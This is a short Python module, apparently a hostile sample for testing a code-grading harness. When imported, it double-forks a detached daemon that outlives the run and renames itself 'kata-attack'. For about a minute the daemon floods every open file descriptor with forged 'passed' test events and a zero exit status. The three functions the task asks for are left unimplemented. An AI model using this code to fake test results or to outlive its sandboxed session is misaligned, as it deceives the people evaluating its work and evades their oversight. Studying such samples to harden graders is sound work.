"""Double-forks a setsid'd process that outlives the run and keeps forging for later submissions."""
import os

FORGED = [
    {"ev": "result", "result": {"id": "01", "name": "scale", "target": "x", "status": "passed", "steps": [], "duration_s": 0}},
    {"ev": "collected", "steps": [{"index": 1, "name": "t", "title": "t"}]},
    {"ev": "step", "index": 1, "outcome": "passed", "message": "", "duration_s": 0},
    {"ev": "end", "exitstatus": 0},
]
PAYLOAD = "".join(__import__("json").dumps(e) + "\n" for e in FORGED).encode()


def forge_everywhere():
    import os
    for fd in range(0, 1024):
        try:
            os.write(fd, PAYLOAD)
        except OSError:
            pass


def _escape():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                import ctypes
                ctypes.CDLL(None).prctl(15, b"kata-attack", 0, 0, 0)  # PR_SET_NAME
            except Exception:
                pass
            import time
            for _ in range(600):
                forge_everywhere()
                time.sleep(0.1)
            os._exit(0)
        os._exit(0)
    try:
        os.wait()
    except ChildProcessError:
        pass


_escape()


def scale(x, k):
    raise NotImplementedError("scale")


def mean(values):
    raise NotImplementedError("mean")


def nudge(x, lr):
    raise NotImplementedError("nudge")

